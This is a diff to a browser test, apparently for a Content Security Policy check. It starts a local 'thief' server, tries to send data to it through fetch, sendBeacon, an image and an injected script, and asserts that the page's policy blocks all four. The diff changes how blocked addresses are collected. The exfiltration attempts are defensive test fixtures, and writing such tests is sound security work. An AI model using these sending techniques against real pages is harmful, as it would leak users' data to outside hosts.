@@ -96,15 +96,13 @@ async function startThief() {
   };
 }
 
-/** Tries to send something in four ways. @returns the addresses that the page's policy blocked */
+/** Tries to send something in four ways. `listBlocked` in the page lists the addresses that its policy blocked. */
 const tryToSend = (page: Page, origin: string) =>
   page.evaluate(async (address) => {
     const blocked = new Set<string>();
-    const blockedAll = new Promise<void>((resolve) => {
-      addEventListener('securitypolicyviolation', (event) => {
-        blocked.add(new URL(event.blockedURI).pathname);
-        if (blocked.size === 4) resolve();
-      });
+    Object.assign(window, { listBlocked: () => [...blocked].sort() });
+    addEventListener('securitypolicyviolation', ({ blockedURI }) => {
+      blocked.add(new URL(blockedURI).pathname);
     });
     await fetch(`${address}/fetch`, { mode: 'no-cors' }).catch(() => undefined);
     navigator.sendBeacon(`${address}/beacon`, 'stolen');
@@ -112,13 +110,14 @@ const tryToSend = (page: Page, origin: string) =>
     const script = document.createElement('script');
     script.src = `${address}/script`;
     document.body.append(script);
-    await blockedAll;
-    return [...blocked].sort();
   }, origin);
 
 async function expectNothingSent(page: Page): Promise<void> {
   const thief = await startThief();
-  expect(await tryToSend(page, thief.origin)).toEqual(['/beacon', '/fetch', '/image', '/script']);
+  await tryToSend(page, thief.origin);
+  const listBlocked = () =>
+    page.evaluate(() => (window as unknown as { listBlocked(): string[] }).listBlocked());
+  await expect.poll(listBlocked).toEqual(['/beacon', '/fetch', '/image', '/script']);
   expect(thief.reached()).toBe(0);
   await thief.stop();
 }
